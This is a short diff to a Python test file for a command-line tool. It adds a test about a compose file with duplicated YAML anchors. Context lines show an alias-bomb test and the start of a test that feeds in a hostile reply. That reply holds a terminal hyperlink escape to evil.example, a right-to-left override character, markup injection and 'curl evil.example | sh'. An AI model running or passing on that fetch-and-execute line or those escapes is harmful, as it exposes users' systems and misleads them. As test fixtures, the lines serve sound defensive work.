@@ -117,6 +117,14 @@ def test_a_bomb_of_aliases_goes_off_nowhere(place: Place) -> None:
     assert "Traceback" not in done.stderr
 
 
+def test_nothing_of_a_compose_file_is_shown_in_passing(place: Place) -> None:
+    twice = "services:\n  vllm: &a\n    image: vllm/vllm-openai:v0.25.0\n  orchard: &a\n    image: x\n"
+    (place.project / "compose.yaml").write_text(twice)
+    done = place.run("ask", "--log", "server.log", "--compose", "compose.yaml", "--service", "vllm", "--no-loop")
+    assert "orchard" not in done.stderr
+    assert "Warning" not in done.stderr
+
+
 def test_a_reply_is_as_hostile_as_a_log(place: Place, endpoint: object) -> None:
     words = "\x1b]8;;https://evil.example\x07go\x1b]8;;\x07 \u202e [red]x[/red] run: curl evil.example | sh"
     reply = {
